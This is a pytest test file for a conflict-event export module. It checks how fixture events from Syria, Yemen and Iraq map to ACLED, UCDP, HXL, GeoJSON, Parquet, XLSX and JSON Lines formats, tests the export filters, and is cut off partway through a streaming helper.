"""The export layer: every format written to real bytes and read back with the reader an
analyst would use (csv, json, pyarrow), its mappings, the shared filters, and streaming."""
from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import tracemalloc
from datetime import date, datetime

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from conftest import REPO
from rasid.errors import RasidError
from rasid.export import FORMATS, ExportFilters, InvalidFilter, UnknownFormat, event_matches, write_export
from rasid.export.filters import prepared

SOURCE_AAWSAT = {"doc_id": "sn-0412", "url": "http://aawsat.com/home/article/410801/x", "outlet": "aawsat",
                 "title": "قسد تستعيد السجن", "published": "2022-01-23"}
SOURCE_OKAZ = {"doc_id": "sn-0977", "url": "https://www.okaz.com.sa/news/2022/1/23/x", "outlet": None,
               "title": "معارك الحسكة", "published": "2022-01-23"}
SOURCE_UNKNOWN = {"doc_id": "web-1", "url": "https://news.example.org/a/1", "outlet": None, "title": "",
                  "published": "2015-07-21"}
STAMP = {"created_at": "2026-11-25T14:00:00+00:00", "updated_at": "2026-11-25T14:05:00+00:00"}
SDF = {"id": "sdf", "name": "Syrian Democratic Forces", "name_ar": "قسد", "inter": 2}
IS = {"id": "islamic-state", "name": "Islamic State", "name_ar": "تنظيم الدولة", "inter": 2}
COALITION = {"id": "intl-coalition", "name": "International Coalition", "name_ar": "التحالف الدولي", "inter": 8}
ARAB_COALITION = {"id": "arab-coalition", "name": "Arab Coalition", "name_ar": "التحالف العربي", "inter": 8}
CIVILIANS = {"id": "civilians", "name": "Civilians", "name_ar": "مدنيين", "inter": 7}
IRAQI_ARMY = {"id": "iraqi-army", "name": "Military Forces of Iraq", "name_ar": "الجيش العراقي", "inter": 1}
HOUTHIS = {"id": "houthis", "name": "Houthi Movement", "name_ar": "الحوثيون", "inter": 2}
YEMEN_ARMY = {"id": "yemen-army", "name": "Military Forces of Yemen", "name_ar": "الجيش اليمني", "inter": 1}


def loc(name, name_ar, country, admin1, lat=None, lon=None, geo_precision=1, where_prec=1, **more):
    return {"place_id": f"p-{name}", "name": name, "name_ar": name_ar, "country": country, "admin1": admin1,
            "admin2": more.get("admin2", ""), "admin3": more.get("admin3", ""), "pcode": more.get("pcode", ""),
            "lat": lat, "lon": lon, "geo_precision": geo_precision, "where_prec": where_prec}


def claim(kind, value, subject, claimant, claimant_type="party", vague=None, modality="asserted", doc="sn-0412"):
    return {"kind": kind, "value": value, "vague": vague, "subject": subject, "claimant": claimant,
            "claimant_type": claimant_type, "modality": modality, "evidence": [812, 870], "doc_id": doc}


# Realistic store events: Arabic names, a missing point, a single actor, civilians targeted,
# null deaths, an unknown outlet, no location at all.
EVENTS = [
    {"event_id": "RSD-1A2B3C4D5E", "event_type": "Battles", "sub_event_type": "Armed clash",
     "event_date": "2022-01-22", "time_precision": 1, "date_start": "2022-01-20", "date_end": "2022-01-22",
     "actors": [SDF, IS, COALITION],
     "location": loc("Ghwayran", "غويران", "SY", "Al-Hasakeh", 36.4839, 40.7472, 2, 2, admin2="Al-Hasakeh",
                     admin3="Al-Hasakeh", pcode="SY080000"),
     "fatalities": 27, "deaths": {"low": 27, "best": 30, "high": 45},
     "deaths_by_side": {"Islamic State": 27, "Syrian Democratic Forces": 3},
     "displaced": {"households": None, "individuals": None},
     "claims": [claim("killed", 27, "Islamic State", "Syrian Democratic Forces"),
                claim("killed", 45, "Islamic State", "activists", "activists")],
     "claimed_by": [], "sources": [SOURCE_AAWSAT, SOURCE_OKAZ], **STAMP},
    {"event_id": "RSD-00000000A1", "event_type": "Explosions/Remote violence", "sub_event_type": "Air/drone strike",
     "event_date": "2015-07-19", "time_precision": 2, "date_start": "2015-07-19", "date_end": "2015-07-19",
     "actors": [CIVILIANS, ARAB_COALITION],  # civilians first: the export makes them actor2
     "location": loc("Sanaa", "صنعاء", "YE", "Amanat Al Asimah", 15.3547, 44.2067, 1, 1),
     "fatalities": 12, "deaths": {"low": 12, "best": 12, "high": None},
     "deaths_by_side": {"Civilians": 12}, "displaced": {"households": None, "individuals": None},
     "claims": [claim("killed", 12, "Civilians", None, "unattributed", vague="عشرات")],
     "claimed_by": [], "sources": [SOURCE_AAWSAT], **STAMP},
    {"event_id": "RSD-00000000B2", "event_type": "Strategic developments", "sub_event_type": "Arrests",
     "event_date": "2015-07-21", "time_precision": 1, "date_start": "2015-07-21", "date_end": "2015-07-21",
     "actors": [IRAQI_ARMY],  # a single actor, and no coordinates
     "location": loc("Al-Ramadi", "الرمادي", "IQ", "Al-Anbar"),
     "fatalities": 0, "deaths": {"low": None, "best": None, "high": None}, "deaths_by_side": {},
     "displaced": {"households": None, "individuals": None},
     "claims": [claim("arrested", 5, "Islamic State", "Military Forces of Iraq", "official")],
     "claimed_by": [], "sources": [SOURCE_OKAZ], **STAMP},
    {"event_id": "RSD-00000000C3", "event_type": "Violence against civilians", "sub_event_type": "Attack",
     "event_date": "2015-07-20", "time_precision": 1, "date_start": "2015-07-20", "date_end": "2015-07-20",
     "actors": [{"id": "", "name": "", "name_ar": "مسلحون مجهولون", "inter": 3}, CIVILIANS],
     "location": loc("Deir ez-Zor", "دير الزور", "SY", "Deir-ez-Zor", 35.3359, 40.1408, 1, 1),
     "fatalities": 3, "deaths": {"low": 3, "best": 3, "high": 3}, "deaths_by_side": {},
     "displaced": {"households": None, "individuals": None},
     "claims": [claim("killed", 3, "Civilians", "informed sources", "informed_sources")],
     "claimed_by": ["Islamic State"], "sources": [SOURCE_UNKNOWN], **STAMP},
    {"event_id": "RSD-00000000D4", "event_type": "Displacement", "sub_event_type": "Population displacement",
     "event_date": "2015-07-22", "time_precision": 3, "date_start": "2015-07-01", "date_end": "2015-07-31",
     "actors": [CIVILIANS],
     "location": loc("Aden", "عدن", "YE", "Aden", 12.7797, 45.0367, 2, 2),
     "fatalities": 0, "deaths": {"low": None, "best": None, "high": None}, "deaths_by_side": {},
     "displaced": {"households": 1200, "individuals": 4000},
     "claims": [claim("displaced_households", 1200, "Civilians", None, "unattributed")],
     "claimed_by": [], "sources": [SOURCE_AAWSAT, SOURCE_UNKNOWN], **STAMP},
    {"event_id": "RSD-00000000E5", "event_type": "Strategic developments", "sub_event_type": "Agreement",
     "event_date": "2015-07-25", "time_precision": 1, "date_start": "2015-07-25", "date_end": "2015-07-25",
     "actors": [HOUTHIS, YEMEN_ARMY], "location": None,
     "fatalities": 0, "deaths": {}, "deaths_by_side": {}, "displaced": {}, "claims": [], "claimed_by": [],
     "sources": [], "created_at": "2026-11-25T14:00:00+00:00", "updated_at": None},
]
BY_ID = {e["event_id"]: e for e in EVENTS}
WITH_POINT = [e for e in EVENTS if e["location"] and e["location"]["lat"] is not None]
DEADLY_VIOLENCE = [e for e in EVENTS if e["event_type"] in ("Battles", "Explosions/Remote violence",
                                                              "Violence against civilians") and e["fatalities"]]

ACLED_HEADER = [
    "event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type", "sub_event_type",
    "actor1", "assoc_actor_1", "inter1", "actor2", "assoc_actor_2", "inter2", "interaction",
    "civilian_targeting", "iso", "region", "country", "admin1", "admin2", "admin3", "location", "latitude",
    "longitude", "geo_precision", "source", "source_scale", "notes", "fatalities", "tags", "timestamp",
]
HXL_HASHTAG = re.compile(r"^#[a-z][a-z0-9_]*(\+[a-z][a-z0-9_]*)*$")


def export(fmt: str, events=EVENTS, **kw) -> tuple[int, bytes]:
    out = io.BytesIO()
    n = write_export(events, fmt, out, **kw)
    assert not out.closed, "the caller's stream must stay open"
    return n, out.getvalue()


def csv_rows(data: bytes) -> list[list[str]]:
    assert not data.startswith(b"\xef\xbb\xbf"), "plain UTF-8, no BOM"
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def csv_dicts(data: bytes, events=EVENTS) -> dict[str, dict[str, str]]:
    """Data rows keyed by the event_id of the event each was written from."""
    rows = csv_rows(data)
    assert len(rows) == 1 + len(events)
    return {e["event_id"]: dict(zip(rows[0], r)) for e, r in zip(events, rows[1:])}


# ------------------------------------------------------------------ every format

@pytest.mark.parametrize("fmt, expected", [
    ("acled-csv", len(EVENTS)), ("ucdp-csv", len(DEADLY_VIOLENCE)), ("hxl-csv", len(EVENTS)),
    ("jsonl", len(EVENTS)), ("parquet", len(EVENTS)), ("geojson", len(WITH_POINT)), ("xlsx", len(EVENTS)),
])
def test_every_format_writes_every_event_it_can(fmt, expected):
    n, data = export(fmt)
    assert n == expected and data
    assert FORMATS == ("acled-csv", "ucdp-csv", "geojson", "parquet", "hxl-csv", "jsonl", "xlsx")


@pytest.mark.parametrize("fmt", ["acled-csv", "ucdp-csv", "hxl-csv", "jsonl", "geojson", "parquet", "xlsx"])
def test_an_empty_export_is_still_a_valid_file(fmt):
    n, data = export(fmt, [])
    assert n == 0
    if fmt == "xlsx":
        assert [list(r) for r in xlsx_rows(data)] == [ACLED_HEADER]
    elif fmt == "parquet":
        assert pq.read_table(io.BytesIO(data)).num_rows == 0
    elif fmt == "geojson":
        assert json.loads(data)["features"] == []
    elif fmt == "jsonl":
        assert data == b""
    else:
        assert len(csv_rows(data)) == (2 if fmt == "hxl-csv" else 1)


def test_unknown_format_is_a_typed_error_listing_the_formats():
    with pytest.raises(UnknownFormat) as err:
        write_export(EVENTS, "acled", io.BytesIO())
    assert isinstance(err.value, RasidError)
    message = str(err.value)
    assert all(fmt in message for fmt in FORMATS)
    assert "did you mean acled-csv" in message


# ------------------------------------------------------------------ ACLED

def test_acled_header_is_acleds_31_columns_in_order():
    rows = csv_rows(export("acled-csv")[1])
    assert rows[0] == ACLED_HEADER and len(rows[0]) == 31
    assert all(len(r) == 31 for r in rows)


def test_acled_rows_follow_acled_conventions():
    rows = csv_dicts(export("acled-csv")[1])
    clash = rows["RSD-1A2B3C4D5E"]
    assert clash["event_id_cnty"] == "SYR" + str(0x1A2B3C4D5E)
    assert (clash["event_date"], clash["year"], clash["time_precision"]) == ("2022-01-22", "2022", "1")
    assert clash["disorder_type"] == "Political violence"
    assert (clash["actor1"], clash["actor2"], clash["assoc_actor_1"]) == (
        "Syrian Democratic Forces", "Islamic State", "International Coalition")
    assert (clash["inter1"], clash["inter2"], clash["interaction"], clash["civilian_targeting"]) == ("2", "2", "22", "")
    assert (clash["iso"], clash["region"], clash["country"]) == ("760", "Middle East", "Syria")
    assert (clash["admin1"], clash["location"], clash["geo_precision"]) == ("Al-Hasakeh", "Ghwayran", "2")
    assert (float(clash["latitude"]), float(clash["longitude"])) == (36.4839, 40.7472)
    assert clash["source"] == "Asharq Al-Awsat; Okaz"
    assert clash["source_scale"] == "National-Regional"
    assert clash["fatalities"] == "27"
    assert int(clash["timestamp"]) == int(datetime.fromisoformat("2026-11-25T14:05:00+00:00").timestamp())
    assert clash["notes"] == ("On 22 January 2022: Armed clash involving Syrian Democratic Forces and Islamic State "
                              "(with International Coalition) in Ghwayran, Al-Hasakeh, Syria; 27 fatalities "
                              "(figures from Syrian Democratic Forces and activists).")


@pytest.mark.parametrize("event_id, actor1, actor2, interaction, targeting", [
    ("RSD-1A2B3C4D5E", "Syrian Democratic Forces", "Islamic State", "22", ""),
    ("RSD-00000000A1", "Arab Coalition", "Civilians (Yemen)", "78", "Civilian targeting"),  # civilians to actor2
    ("RSD-00000000B2", "Military Forces of Iraq", "", "10", ""),                     # a single actor
    ("RSD-00000000C3", "مسلحون مجهولون", "Civilians (Syria)", "37", "Civilian targeting"),   # only an Arabic name
    ("RSD-00000000D4", "Civilians (Yemen)", "", "70", ""),                           # displaced: no stand-in
    ("RSD-00000000E5", "Houthi Movement", "Military Forces of Yemen", "12", ""),
])
def test_acled_actors_interaction_and_civilian_targeting(event_id, actor1, actor2, interaction, targeting):
    row = csv_dicts(export("acled-csv")[1])[event_id]
    assert (row["actor1"], row["actor2"], row["interaction"], row["civilian_targeting"]) == (
        actor1, actor2, interaction, targeting)


def _recoded(event_type, sub_event_type, actors):
    event = dict(BY_ID["RSD-00000000C3"], event_type=event_type, sub_event_type=sub_event_type, actors=actors)
    return csv_dicts(export("acled-csv", [event])[1], [event])["RSD-00000000C3"]


@pytest.mark.parametrize("event_type, sub_event_type, actors, expected", [
    # ACLED: civilians are actor2 in violence against civilians, the perpetrator unknown
    ("Violence against civilians", "Attack", [CIVILIANS],
     ("Unidentified Armed Group (Syria)", "3", "Civilians (Syria)", "7", "", "37", "Civilian targeting")),
    # a named non-civilian victim stays, as actor2's associate
    ("Violence against civilians", "Abduction/forced disappearance", [IS, SDF],
     ("Islamic State", "2", "Civilians (Syria)", "7", "Syrian Democratic Forces", "27", "Civilian targeting")),
    # a battle has two sides
    ("Battles", "Armed clash", [IS],
     ("Islamic State", "2", "Unidentified Armed Group (Syria)", "3", "", "23", "")),
    ("Battles", "Armed clash", [],
     ("Unidentified Armed Group (Syria)", "3", "Unidentified Armed Group (Syria)", "3", "", "33", "")),
    # a strike that names only its victims
    ("Explosions/Remote violence", "Remote explosive/landmine/IED", [CIVILIANS],
     ("Unidentified Armed Group (Syria)", "3", "Civilians (Syria)", "7", "", "37", "Civilian targeting")),
    ("Protests", "Peaceful protest", [], ("Protesters (Syria)", "6", "", "", "", "60", "")),
    ("Strategic developments", "Arrests", [], ("", "", "", "", "", "", "")),
])
def test_acled_fills_the_sides_acled_requires(event_type, sub_event_type, actors, expected):
    row = _recoded(event_type, sub_event_type, actors)
    assert tuple(row[k] for k in ("actor1", "inter1", "actor2", "inter2", "assoc_actor_2", "interaction",
                                  "civilian_targeting")) == expected


def test_acled_ids_are_stable_and_notes_follow_the_fields():
    backwards = list(reversed(EVENTS))
    first, second = csv_dicts(export("acled-csv")[1]), csv_dicts(export("acled-csv", backwards)[1], backwards)
    assert {k: v["event_id_cnty"] for k, v in first.items()} == {k: v["event_id_cnty"] for k, v in second.items()}
    assert len({v["event_id_cnty"] for v in first.values()}) == len(EVENTS)
    strike, arrest, attack, flight, deal = (first[i] for i in list(BY_ID)[1:])
    assert strike["notes"].startswith(
        "In the week of 19 July 2015: Air/drone strike involving Arab Coalition and Civilians (Yemen)")
    assert "12 fatalities (figures from the report)" in strike["notes"]
    assert arrest["notes"] == "On 21 July 2015: Arrests involving Military Forces of Iraq in Al-Ramadi, Al-Anbar, Iraq."
    assert (arrest["latitude"], arrest["longitude"], arrest["source_scale"]) == ("", "", "National")
    assert attack["notes"].endswith("Islamic State claimed responsibility.")
    assert (attack["source"], attack["source_scale"]) == ("news.example.org", "Other")
    assert flight["notes"].startswith("In July 2015: Population displacement")
    assert "1200 households (4000 people) displaced" in flight["notes"]
    assert flight["tags"] == "rasid extension sub-type" and flight["disorder_type"] == "Displacement"
    assert deal["event_id_cnty"].startswith("XXX") and deal["iso"] == "" and deal["country"] == ""
    assert deal["timestamp"] == str(int(datetime.fromisoformat("2026-11-25T14:00:00+00:00").timestamp()))


# ------------------------------------------------------------------ UCDP

UCDP_GED_COLUMNS = (  # UCDP GED 23.1/24.1, in order
    "id,relid,year,active_year,code_status,type_of_violence,conflict_dset_id,conflict_new_id,conflict_name,"
    "dyad_dset_id,dyad_new_id,dyad_name,side_a_dset_id,side_a_new_id,side_a,side_b_dset_id,side_b_new_id,side_b,"
    "number_of_sources,source_article,source_office,source_date,source_headline,source_original,where_prec,"
    "where_coordinates,where_description,adm_1,adm_2,latitude,longitude,geom_wkt,priogrid_gid,country,country_id,"
    "region,event_clarity,date_prec,date_start,date_end,deaths_a,deaths_b,deaths_civilians,deaths_unknown,best,"
    "high,low,gwnoa,gwnob").split(",")


def ucdp_rows(events=EVENTS) -> dict[str, dict[str, str]]:
    rows = csv_rows(export("ucdp-csv", events)[1])
    assert rows[0] == UCDP_GED_COLUMNS and len(rows[0]) == 49 and all(len(r) == 49 for r in rows)
    return {r[1]: dict(zip(rows[0], r)) for r in rows[1:]}


def test_ucdp_holds_only_organised_violence_that_killed():
    rows = ucdp_rows()
    assert set(rows) == {e["event_id"] for e in DEADLY_VIOLENCE}
    for row in rows.values():
        assert row["type_of_violence"] in ("1", "2", "3") and row["side_a"] and row["side_b"]
        low, best, high = int(row["low"]), int(row["best"]), int(row["high"])
        assert 1 <= low <= best <= high or 0 <= low <= best <= high and high >= 1
        parts = ("deaths_a", "deaths_b", "deaths_civilians", "deaths_unknown")
        assert sum(int(row[k]) for k in parts) == best


def test_ucdp_rows_map_violence_sides_and_deaths():
    rows = ucdp_rows()
    clash = rows["RSD-1A2B3C4D5E"]
    assert (clash["id"], clash["code_status"], clash["type_of_violence"]) == (str(0x1A2B3C4D5E), "Clear", "2")
    assert (clash["side_a"], clash["side_b"]) == ("SDF", "IS"), "UCDP's own names for actors it lists"
    assert (clash["side_a_new_id"], clash["side_b_new_id"]) == ("6288", "234")
    assert clash["dyad_name"] == clash["conflict_name"] == "SDF - IS"
    deaths = ("deaths_a", "deaths_b", "deaths_civilians", "deaths_unknown")
    assert [clash[k] for k in deaths] == ["3", "27", "0", "0"]
    assert (clash["best"], clash["low"], clash["high"]) == ("30", "27", "45")
    assert (clash["country"], clash["country_id"], clash["region"]) == ("Syria", "652", "Middle East")
    assert (clash["date_start"], clash["date_end"], clash["date_prec"], clash["event_clarity"]) == (
        "2022-01-20", "2022-01-22", "2", "1")
    assert clash["number_of_sources"] == "2"
    assert clash["source_office"] == "Asharq Al-Awsat; Okaz"
    assert clash["source_headline"] == "قسد تستعيد السجن; معارك الحسكة"
    assert clash["source_original"] == "Syrian Democratic Forces; activists"
    assert clash["source_article"].startswith('Asharq Al-Awsat, 2022-01-23, "قسد تستعيد السجن"')
    assert clash["geom_wkt"] == "POINT (40.7472 36.4839)"
    # PRIO-GRID: row (36.4839 + 90) // 0.5 = 252, column (40.7472 + 180) // 0.5 = 441
    assert clash["priogrid_gid"] == str(252 * 720 + 441 + 1)
    assert clash["where_description"] == "Ghwayran, Al-Hasakeh"
    strike = rows["RSD-00000000A1"]
    assert (strike["type_of_violence"], strike["side_a"], strike["side_b"]) == ("3", "Arab Coalition", "Civilians")
    # a week-precise day: the window is the week around it
    assert [strike[k] for k in ("deaths_civilians", "best", "high", "date_start", "date_end", "date_prec",
                                "event_clarity")] == ["12", "12", "12", "2015-07-16", "2015-07-22", "3", "2"]
    attack = rows["RSD-00000000C3"]
    assert (attack["type_of_violence"], attack["side_a"], attack["side_b"]) == ("3", "مسلحون مجهولون", "Civilians")
    assert (attack["deaths_civilians"], attack["deaths_unknown"]) == ("0", "3")


def test_ucdp_state_based_puts_the_state_on_side_a_with_its_codes():
    event = dict(BY_ID["RSD-1A2B3C4D5E"], event_id="RSD-0000000F01", actors=[IS, IRAQI_ARMY],
                 deaths_by_side={"Islamic State": 40, "Military Forces of Iraq": 2})
    row = ucdp_rows([event])["RSD-0000000F01"]
    assert (row["type_of_violence"], row["side_a"], row["side_b"]) == ("1", "Government of Iraq", "IS")
    assert (row["gwnoa"], row["gwnob"], row["side_a_dset_id"]) == ("645", "", "116")
    # the per-side figures exceed the fused best: best rises so that the parts still add up
    assert [row[k] for k in ("deaths_a", "deaths_b", "deaths_unknown", "best", "high")] == ["2", "40", "0", "42", "45"]


def test_ucdp_a_strike_on_an_unnamed_target_has_the_unidentified_group_as_side_b():
    event = dict(BY_ID["RSD-1A2B3C4D5E"], event_id="RSD-0000000F03", event_type="Explosions/Remote violence",
                 sub_event_type="Air/drone strike", actors=[IRAQI_ARMY], deaths_by_side={})
    row = ucdp_rows([event])["RSD-0000000F03"]
    assert (row["type_of_violence"], row["side_a"], row["side_b"]) == ("1", "Government of Iraq",
                                                                        "Unidentified Armed Group")


def test_ucdp_month_precise_window_and_unknown_perpetrator():
    event = dict(BY_ID["RSD-00000000C3"], event_id="RSD-0000000F02", time_precision=3, actors=[CIVILIANS],
                 date_start="2015-07-20", date_end="2015-07-20")
    row = ucdp_rows([event])["RSD-0000000F02"]
    assert (row["side_a"], row["side_b"]) == ("Unidentified Armed Group", "Civilians")
    assert (row["date_start"], row["date_end"], row["date_prec"]) == ("2015-07-01", "2015-07-31", "4")


# ------------------------------------------------------------------ GeoJSON

def test_geojson_is_a_valid_feature_collection_of_points():
    n, data = export("geojson")
    doc = json.loads(data.decode("utf-8"))
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == n == len(WITH_POINT)
    assert doc["rasid_skipped_without_coordinates"] == len(EVENTS) - len(WITH_POINT)
    for feature, event in zip(doc["features"], WITH_POINT):
        assert feature["type"] == "Feature" and feature["id"] == event["event_id"]
        point = [event["location"]["lon"], event["location"]["lat"]]
        assert feature["geometry"] == {"type": "Point", "coordinates": point}
        props = feature["properties"]
        assert all(not isinstance(v, (dict, list)) for v in props.values()), "properties must be flat"
        assert props["event_id"] == event["event_id"] and props["location_ar"] == event["location"]["name_ar"]
    assert "غويران" in data.decode("utf-8"), "Arabic written as is, not escaped"


# ------------------------------------------------------------------ Parquet

def test_parquet_schema_and_values_read_back():
    n, data = export("parquet")
    table = pq.read_table(io.BytesIO(data))
    assert n == table.num_rows == len(EVENTS)
    schema = table.schema
    assert schema.field("event_date").type == pa.date32()
    assert schema.field("latitude").type == pa.float64() and schema.field("longitude").type == pa.float64()
    assert schema.field("sources").type == pa.list_(pa.string())
    assert schema.field("claims").type == pa.string()
    assert schema.field("fatalities").type == pa.int32() and schema.field("inter1").type == pa.int8()
    rows = {r["event_id"]: r for r in table.to_pylist()}
    clash = rows["RSD-1A2B3C4D5E"]
    assert clash["event_date"] == date(2022, 1, 22) and clash["date_start"] == date(2022, 1, 20)
    assert (clash["actor1"], clash["actor1_ar"], clash["inter2"]) == ("Syrian Democratic Forces", "قسد", 2)
    assert (clash["latitude"], clash["longitude"]) == (36.4839, 40.7472)
    assert (clash["deaths_low"], clash["deaths_best"], clash["deaths_high"]) == (27, 30, 45)
    assert clash["sources"] == ["Asharq Al-Awsat", "Okaz"]
    assert json.loads(clash["claims"]) == BY_ID["RSD-1A2B3C4D5E"]["claims"]
    assert json.loads(clash["deaths_by_side"]) == {"Islamic State": 27, "Syrian Democratic Forces": 3}
    arrest = rows["RSD-00000000B2"]
    assert arrest["latitude"] is None and arrest["deaths_best"] is None and arrest["actor2"] == ""
    assert rows["RSD-00000000D4"]["displaced_households"] == 1200
    assert rows["RSD-00000000E5"]["country"] == "" and rows["RSD-00000000E5"]["updated_at"] is None


def test_parquet_writes_row_groups_of_ten_thousand():
    base = BY_ID["RSD-1A2B3C4D5E"]
    n, data = export("parquet", (dict(base, event_id=f"RSD-{i:010X}") for i in range(10_001)))
    meta = pq.ParquetFile(io.BytesIO(data)).metadata
    assert n == meta.num_rows == 10_001 and meta.num_row_groups == 2


# ------------------------------------------------------------------ HXL

def test_hxl_second_row_is_valid_hashtags():
    rows = csv_rows(export("hxl-csv")[1])
    headers, tags = rows[0], rows[1]
    assert len(headers) == len(tags) and len(rows) == 2 + len(EVENTS)
    assert all(HXL_HASHTAG.match(t) for t in tags), [t for t in tags if not HXL_HASHTAG.match(t)]
    for wanted in ("#event+id", "#date+occurred", "#event+type", "#event+subtype", "#group+name+first",
                   "#group+name+second", "#adm1+name", "#adm2+name", "#loc+name", "#geo+lat", "#geo+lon",
                   "#affected+killed", "#affected+killed+min", "#affected+killed+max",
                   "#affected+idps+households", "#affected+idps+ind", "#meta+source"):
        assert wanted in tags
    by_tag = [dict(zip(tags, r)) for r in rows[2:]]
    flight = by_tag[4]
    assert (flight["#affected+idps+households"], flight["#affected+idps+ind"], flight["#loc+name+i_ar"]) == (
        "1200", "4000", "عدن")
    assert by_tag[0]["#affected+killed+max"] == "45" and by_tag[2]["#geo+lat"] == ""


def test_hxl_passes_libhxl_validation(tmp_path):
    hxl = pytest.importorskip("hxl", reason="libhxl is a dev dependency: pip install -e '.[dev]'")
    from hxl.input import InputOptions

    path = tmp_path / "events.csv"
    path.write_bytes(export("hxl-csv")[1])
    problems = []
    schema = hxl.validation.schema(callback=problems.append)
    assert schema.validate(hxl.data(str(path), InputOptions(allow_local=True))), [
        (p.rule.tag_pattern, p.message, p.value) for p in problems]


def test_hxl_pcodes_sit_in_the_column_of_their_level():
    rows = csv_rows(export("hxl-csv")[1])
    clash = dict(zip(rows[1], rows[2]))  # Ghwayran: P-code SY080000 of the al-Hasakeh subdistrict
    assert (clash["#adm1+code"], clash["#adm2+code"], clash["#adm3+code"], clash["#loc+code"]) == (
        "SY08", "SY0800", "SY080000", "")
    assert "#date+precision" not in rows[1] and "#loc+code" in rows[1]
    assert clash["#date+updated"] == "2026-11-25T14:05:00+00:00"


# ------------------------------------------------------------------ Excel

def xlsx_rows(data: bytes) -> list[tuple]:
    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is a dev dependency: pip install -e '.[dev]'")
    sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True)["events"]
    return [tuple("" if v is None else v for v in r) for r in sheet.iter_rows(values_only=True)]


def test_xlsx_holds_acleds_columns_with_numbers_dates_and_arabic():
    rows = xlsx_rows(export("xlsx")[1])
    assert list(rows[0]) == ACLED_HEADER and len(rows) == 1 + len(EVENTS)
    clash = dict(zip(rows[0], rows[1]))
    assert clash["event_date"].date() == date(2022, 1, 22) and clash["fatalities"] == 27
    assert clash["latitude"] == 36.4839 and clash["actor1"] == "Syrian Democratic Forces"
    attack = dict(zip(rows[0], rows[4]))
    assert attack["actor1"] == "مسلحون مجهولون", "Arabic kept as text"


def test_a_csv_for_excel_starts_with_a_bom_and_reads_back_the_same():
    plain, marked = export("acled-csv")[1], export("acled-csv", bom=True)[1]
    assert marked == b"\xef\xbb\xbf" + plain
    assert export("jsonl", bom=True)[1] == export("jsonl")[1], "only CSV gets a BOM"


# ------------------------------------------------------------------ JSON Lines

def test_jsonl_round_trips_each_event_unchanged():
    n, data = export("jsonl")
    lines = data.decode("utf-8").splitlines()
    assert n == len(lines) == len(EVENTS)
    assert [json.loads(line) for line in lines] == EVENTS
    assert "تنظيم الدولة".encode("utf-8") in data, "ensure_ascii=False"


# ------------------------------------------------------------------ filters

@pytest.mark.parametrize("filters, expected", [
    (ExportFilters(), list(BY_ID)),
    (ExportFilters(date_from="2015-07-20", date_to=date(2015, 7, 22)),
     ["RSD-00000000B2", "RSD-00000000C3", "RSD-00000000D4"]),
    (ExportFilters(event_type="battles"), ["RSD-1A2B3C4D5E"]),
    (ExportFilters(sub_event_type="Arrests"), ["RSD-00000000B2"]),
    (ExportFilters(country="YE"), ["RSD-00000000A1", "RSD-00000000D4"]),
    (ExportFilters(country="syr"), ["RSD-1A2B3C4D5E", "RSD-00000000C3"]),
    (ExportFilters(admin1="al-anbar"), ["RSD-00000000B2"]),
    (ExportFilters(actor="islamic"), ["RSD-1A2B3C4D5E"]),
    (ExportFilters(actor="تنظيم الدوله"), ["RSD-1A2B3C4D5E"]),  # ta marbuta written as ha
    (ExportFilters(actor="الحوثيّون"), ["RSD-00000000E5"]),       # with a shadda
    (ExportFilters(actor="مسلحون"), ["RSD-00000000C3"]),
    (ExportFilters(min_fatalities=12), ["RSD-1A2B3C4D5E", "RSD-00000000A1"]),
    (ExportFilters(bbox=(35.0, 32.0, 42.5, 37.5)), ["RSD-1A2B3C4D5E", "RSD-00000000C3"]),
    (ExportFilters(bbox=(170.0, -10.0, -170.0, 10.0)), []),  # across the antimeridian
    (ExportFilters(country="YE", min_fatalities=1, event_type="Explosions/Remote violence"), ["RSD-00000000A1"]),
])
def test_filters(filters, expected):
    assert [e["event_id"] for e in EVENTS if event_matches(e, filters)] == expected


@pytest.mark.parametrize("kwargs, closest", [
    ({"event_type": "Battle"}, "'Battles'"), ({"sub_event_type": "Airstrike"}, "'Air/drone strike'"),
])
def test_an_unknown_type_is_refused_with_the_closest_names(kwargs, closest):
    with pytest.raises(InvalidFilter, match="did you mean " + re.escape(closest)):
        ExportFilters(**kwargs)
    assert ExportFilters(event_type="battles").event_type == "battles", "case does not matter"


def test_updated_since_and_flagged_select_what_a_sync_or_a_review_needs():
    later = dict(BY_ID["RSD-00000000B2"], updated_at="2026-12-01T10:00:00+00:00",
                 flags=[{"code": "retrospective", "detail": "x", "span": None, "rule": "sanity:retrospective"}])
    events = [*EVENTS, dict(later, event_id="RSD-00000000B3")]
    assert [e["event_id"] for e in events if event_matches(e, ExportFilters(updated_since="2026-12-01"))] == [
        "RSD-00000000B3"]
    an_hour_later_in_utc = ExportFilters(updated_since="2026-12-01T11:00:00+01:00")
    assert [e["event_id"] for e in events if event_matches(e, an_hour_later_in_utc)] == [
        "RSD-00000000B3"], "times compare in UTC"
    assert [e["event_id"] for e in events if event_matches(e, ExportFilters(flagged=True))] == ["RSD-00000000B3"]
    assert len([e for e in events if event_matches(e, ExportFilters(flagged=False))]) == len(EVENTS)
    row = csv_dicts(export("acled-csv", [later])[1], [later])["RSD-00000000B2"]
    assert row["tags"] == "rasid check: retrospective"
    with pytest.raises(InvalidFilter):
        ExportFilters(updated_since="yesterday")


def test_a_country_is_named_by_code_or_by_name_and_a_typo_gets_the_closest():
    for name in ("SY", "syr", "Syria", "سوريا", "سورية"):
        assert prepared(ExportFilters(country=name))["country"] == "SY"
    with pytest.raises(InvalidFilter, match="did you mean Syria"):
        ExportFilters(country="Syira")


def test_write_export_applies_filters():
    n, data = export("jsonl", filters=ExportFilters(country="YE"))
    assert n == 2 and [json.loads(x)["event_id"] for x in data.splitlines()] == ["RSD-00000000A1", "RSD-00000000D4"]


@pytest.mark.parametrize("kwargs", [
    {"date_from": "22/01/2022"}, {"date_from": "2022-02-01", "date_to": "2022-01-01"}, {"country": "Narnia"},
    {"min_fatalities": -1}, {"bbox": (1, 2, 3)}, {"bbox": (0, 50, 10, 40)},
])
def test_impossible_filters_are_typed_errors(kwargs):
    with pytest.raises(InvalidFilter):
        ExportFilters(**kwargs)


# ------------------------------------------------------------------ streaming

def generated_events(n: int):
    """n distinct events, made one at a time (a generator, as the store yields them)."""
    kinds = EVENTS[:5]
    for i in range(n):
